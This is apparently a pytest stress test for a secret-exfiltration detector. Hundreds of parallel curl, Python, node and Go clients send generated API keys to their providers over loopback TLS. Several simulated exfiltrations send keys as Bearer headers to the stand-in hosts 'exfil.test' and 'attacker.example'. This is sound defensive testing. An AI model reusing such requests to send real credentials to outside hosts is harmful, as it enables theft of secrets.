"""Parallel load: every TLS write is tied to its connection, whatever the concurrency.

At least 200 clients (curl, Python urllib with several threads and connections per process, node
fetch with parallel connections, a Go net/http client) run at once, all inside the test cgroup,
each sending a key to the key's own provider (api.openai.com, api.anthropic.com: names that
reach the loopback server through --resolve or the client's own resolver). A few exfiltrations
of other keys to wrong hosts are started at known points in the middle of the wave.

What a user would check on a busy build runner:
- not one alert, of any kind, for the legitimate requests (no "unknown peer" verdict either);
- every exfiltration alerted, naming its process and the host it went to;
- every request the agent did not judge is accounted for by a counted drop in --stats-file.
The agent is stopped (SIGSTOP) in the middle of the wave: a reader that falls behind and
walks a backlog of both rings must still hand each write over after its connect and SNI.
"""

import collections
import json
import os
import signal
import subprocess
import time

import pytest

from kharness import env, golang

ALERT_TIMEOUT = 10.0   # the wave leaves the reader behind for a while
CLIENT_TIMEOUT = 90.0  # the whole wave on two cores
CURL_CLIENTS = 70
PYTHON_CLIENTS = 40    # each: PYTHON_THREADS threads x PYTHON_REPEAT connections
PYTHON_THREADS, PYTHON_REPEAT = 3, 2
NODE_CLIENTS = 30      # each: NODE_PARALLEL connections at once
NODE_PARALLEL = 2
GO_CLIENTS = 60
STALL_SECONDS = 1.5    # how long the agent stops reading in the middle of the wave

# Stdlib only; the key comes from a file (argv is in every alert). One POST, HTTP/1.1.
GO_CLIENT = r'''package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"time"
)

func main() {
	caFile, name, port, keyFile := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
	ca, err := os.ReadFile(caFile)
	if err != nil {
		os.Exit(2)
	}
	key, err := os.ReadFile(keyFile)
	if err != nil {
		os.Exit(2)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(ca)
	dialer := &net.Dialer{Timeout: 10 * time.Second}
	tr := &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: pool, ServerName: name},
		Proxy:           nil,
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return dialer.DialContext(ctx, network, "127.0.0.1:"+port)
		},
	}
	client := &http.Client{Transport: tr, Timeout: 60 * time.Second}
	req, _ := http.NewRequest("POST", "https://"+name+":"+port+"/v1/chat/completions",
		bytes.NewReader([]byte(`{"model":"x"}`)))
	req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(string(key)))
	req.Header.Set("Content-Type", "application/json")
	resp, err := client.Do(req)
	if err != nil {
		fmt.Fprintln(os.Stderr, "request failed")
		os.Exit(1)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	fmt.Printf("status %d\n", resp.StatusCode)
}
'''

# Counters that mean "a record or a capture the agent did not get": any request the agent did
# not judge must show up in one of these.
DROP_COUNTERS = ("kernel.ringbuf_drop_control", "kernel.ringbuf_drop_data",
                 "kernel.call_table_full", "kernel.fd_table_full", "kernel.user_read_fault",
                 "kernel.truncated_tls_write", "pipeline.records_undecodable")


@pytest.fixture(scope="module")
def go_client(tmp_path_factory):
    work = tmp_path_factory.mktemp("gostress")
    yield golang.build(GO_CLIENT, work, {"gopost": []}, work)["gopost"]


class Wave:
    """Starts clients, remembers what each one is, and collects them all at the end."""

    def __init__(self, clients, registry):
        self.clients = clients
        self.registry = registry
        self.running = []  # (label, expected requests, Popen, start time)
        self.env = {}

    def start(self, label: str, argv: list[str], requests: int = 1) -> None:
        proc = self.clients.start(argv, env=self.env)
        self.running.append((label, requests, proc, time.monotonic()))

    def finish(self) -> dict:
        """Waits for every client (bounded); returns {pid: label}. Fails on any client error."""
        deadline = time.monotonic() + CLIENT_TIMEOUT
        failures, pids = [], {}
        for label, _, proc, _ in self.running:
            try:
                out, err = proc.communicate(timeout=max(1.0, deadline - time.monotonic()))
            except subprocess.TimeoutExpired:
                proc.kill()
                out, err = proc.communicate()
                failures.append(f"{label} pid {proc.pid}: timed out")
            self.clients._record([label], out, err)
            pids[proc.pid] = label
            if proc.returncode != 0 or b"status 200" not in out:
                failures.append(f"{label} pid {proc.pid}: rc {proc.returncode}, "
                                f"{self.registry.redact(err.decode(errors='replace'))[-300:]}")
        assert not failures, f"{len(failures)} clients failed:\n" + "\n".join(failures[:20])
        return pids

    def requests(self) -> int:
        return sum(n for _, n, _, _ in self.running)


def _summary(alert: dict) -> str:
    dest, proc = alert.get("destination") or {}, alert.get("process") or {}
    return (f"{alert.get('kind')} {alert.get('severity')} {(alert.get('secret') or {}).get('type')}"
            f" pid {proc.get('pid')} {proc.get('comm')} -> host {dest.get('host')!r} ip "
            f"{dest.get('ip')!r} port {dest.get('port')}")


def test_parallel_clients_to_their_providers_raise_no_false_alarm_and_exfiltration_is_caught(
        agent, clients, https_server, curl, pki, registry, scratch, go_client):
    openai, anthropic = registry.new("openai"), registry.new("anthropic")
    (scratch / "openai.key").write_text(openai)
    (scratch / "openai.hdr").write_text(f"Authorization: Bearer {openai}\n")
    (scratch / "anthropic.json").write_text(json.dumps({"x-api-key": anthropic}))
    (scratch / "openai.json").write_text(json.dumps({"Authorization": f"Bearer {openai}"}))
    (scratch / "body.json").write_text('{"model":"x"}')
    https_server.backlog(512)

    def curl_to(name, header_file):
        return curl.https(https_server, name, "/v1/chat/completions") + [
            "--max-time", "60", "-H", f"@{header_file}", "--data-binary", "@" +
            str(scratch / "body.json"), "-o", "/dev/null", "-w", "status %{http_code}\n"]

    def python_to(name, headers_file, threads=PYTHON_THREADS, repeat=PYTHON_REPEAT):
        return [env.PYTHON, str(env.CLIENTS / "https_client.py"), "--mode", "urllib",
                "--name", name, "--port", str(https_server.port), "--cafile", str(pki.ca),
                "--path", "/v1/messages", "--headers-file", str(headers_file),
                "--body-file", str(scratch / "body.json"), "--threads", str(threads),
                "--repeat", str(repeat)]

    def node_to(name, headers_file, parallel=NODE_PARALLEL):
        return ["/usr/bin/node", str(env.CLIENTS / "node_fetch.js"), name,
                str(https_server.port), "/v1/chat/completions", str(headers_file),
                str(scratch / "body.json"), str(parallel)]

    def go_to(name, key_file):
        return [str(go_client), str(pki.ca), name, str(https_server.port), str(key_file)]

    # The Go binary is hooked when it is first executed; that first-exec race is another
    # problem (a test of its own). Here it is hooked before the wave.
    warm = clients.run(go_to("api.openai.com", scratch / "openai.key"))
    assert "status 200" in warm.stdout
    assert agent.wait_for_log(str(go_client), timeout=5.0), agent.diagnostics()
    before = https_server.wait_for_requests(1)
    assert len(before) == 1

    # The exfiltrations: other keys, wrong hosts, started in the middle of the wave.
    exfil_keys = {"curl": registry.new("openai"), "python": registry.new("anthropic"),
                  "node": registry.new("openai"), "go": registry.new("openai")}
    (scratch / "x-curl.hdr").write_text(f"Authorization: Bearer {exfil_keys['curl']}\n")
    (scratch / "x-python.json").write_text(json.dumps({"x-api-key": exfil_keys["python"]}))
    (scratch / "x-node.json").write_text(json.dumps({"Authorization":
                                                     f"Bearer {exfil_keys['node']}"}))
    (scratch / "x-go.key").write_text(exfil_keys["go"])
    exfils = [("exfil curl", curl_to("exfil.test", scratch / "x-curl.hdr"), "exfil.test", 1),
              ("exfil python", python_to("attacker.example", scratch / "x-python.json", 1, 1),
               "attacker.example", 1),
              ("exfil node", node_to("exfil.test", scratch / "x-node.json", 1), "exfil.test", 1),
              ("exfil go", go_to("attacker.example", scratch / "x-go.key"),
               "attacker.example", 1)]

    legit = ([("curl", curl_to("api.openai.com", scratch / "openai.hdr"), 1)] * CURL_CLIENTS +
             [("python", python_to("api.anthropic.com", scratch / "anthropic.json"),
               PYTHON_THREADS * PYTHON_REPEAT)] * PYTHON_CLIENTS +
             [("node", node_to("api.openai.com", scratch / "openai.json"), NODE_PARALLEL)] *
             NODE_CLIENTS +
             [("go", go_to("api.openai.com", scratch / "openai.key"), 1)] * GO_CLIENTS)
    # Interleave the kinds so every stretch of the wave mixes TLS stacks.
    legit.sort(key=lambda c: hash((c[0], id(c))) % 7)
    wave = Wave(clients, registry)
    wave.env = {"NODE_EXTRA_CA_CERTS": str(pki.ca)}
    exfil_at = {len(legit) * (i + 1) // (len(exfils) + 1): x for i, x in enumerate(exfils)}
    exfil_started = {}
    # A late reader: the agent stops reading while two fifths of the wave start, so a backlog of
    # both rings builds up; the rest start as it resumes, and connect while the agent walks that
    # backlog and the kernel keeps writing both rings.
    # Busy CPUs, as on a build runner: one spinning process per core, inside the test cgroup
    # (killed below, and with the cgroup at teardown), so the agent walks its backlog slowly.
    hogs = [clients.start([env.PYTHON, "-c", "import time\nend = time.time() + 60\n"
                           "while time.time() < end: pass"]) for _ in range(os.cpu_count() or 2)]
    stops = {len(legit) // 5}
    resumes = {len(legit) * 3 // 5}
    try:
        for i, (label, argv, n) in enumerate(legit):
            if i in stops:
                agent.signal(signal.SIGSTOP)
            elif i in resumes:
                time.sleep(STALL_SECONDS)
                agent.signal(signal.SIGCONT)
            if i in exfil_at:
                xlabel, xargv, host, xn = exfil_at[i]
                wave.start(xlabel, xargv, xn)
                exfil_started[xlabel] = (wave.running[-1][2].pid, host)
            wave.start(label, argv, n)
    finally:
        agent.signal(signal.SIGCONT)
    assert len(wave.running) >= 200
    try:
        wave.finish()
    finally:
        for hog in hogs:
            hog.kill()
            hog.communicate()
    total = wave.requests()
    got = https_server.wait_for_requests(total + 1, timeout=10)
    assert len(got) == total + 1, f"server got {len(got) - 1} of {total} requests"
    assert {r.sni for r in got} == {"api.openai.com", "api.anthropic.com", "exfil.test",
                                    "attacker.example"}

    # Every exfiltration alerted, with its process and destination.
    def exfil_alert(label):
        pid, host = exfil_started[label]
        return lambda a: ((a.get("process") or {}).get("pid") == pid and
                          (a.get("destination") or {}).get("host") == host)

    deadline = time.monotonic() + ALERT_TIMEOUT
    missing = list(exfil_started)
    while missing and time.monotonic() < deadline:
        alerts = agent.alerts()
        missing = [x for x in exfil_started if not any(map(exfil_alert(x), alerts))]
        time.sleep(0.2)
    time.sleep(2.0)  # late alerts about the legitimate requests would show up now
    alerts = agent.alerts()
    assert not missing, (f"exfiltrations not detected: {missing}\n" +
                         "\n".join(map(_summary, alerts)) + agent.diagnostics())

    # Not one alert about anything else.
    exfil_pids = {pid for pid, _ in exfil_started.values()}
    false_alarms = [a for a in alerts if (a.get("process") or {}).get("pid") not in exfil_pids]
    assert not false_alarms, (f"{len(false_alarms)} false alarms under load:\n" +
                              "\n".join(map(_summary, false_alarms[:20])))
    unknown = agent.counter("verdicts_destination_unknown")
    assert unknown == 0, f"{unknown} secrets judged without a destination"

    # Every request was seen (each one a TLS write at least, in the --trace-events record of its
    # process) and every legitimate one judged, or the loss is counted.
    time.sleep(1.5)  # the stats file is rewritten every second
    stats = agent.flat_stats()
    drops = {name: stats.get(name, 0) for name in DROP_COUNTERS}
    lost = sum(drops.values())
    writes = collections.Counter(e.get("pid") for e in agent.trace_events()
                                 if e.get("type") == "tls_data")
    unseen = [f"{label} pid {proc.pid}: {writes[proc.pid]} TLS writes for {n} requests"
              for label, n, proc, _ in wave.running if writes[proc.pid] < n]
    judged = stats.get("pipeline.secrets_to_expected_destinations", 0)
    legit_requests = total - len(exfils) + 1  # + the warm-up request
    print(f"stress: {len(wave.running)} clients, {total + 1} requests, {sum(writes.values())} "
          f"TLS writes, {judged} matches judged at their expected destination, drops {drops}")
    assert len(unseen) <= lost, (f"{len(unseen)} clients not seen whole, {lost} records counted "
                                 f"as lost: {drops}\n" + "\n".join(unseen[:20]))
    assert judged + lost >= legit_requests, (
        f"{legit_requests} legitimate requests, only {judged} matches judged and {lost} "
        f"counted as lost: {drops}")
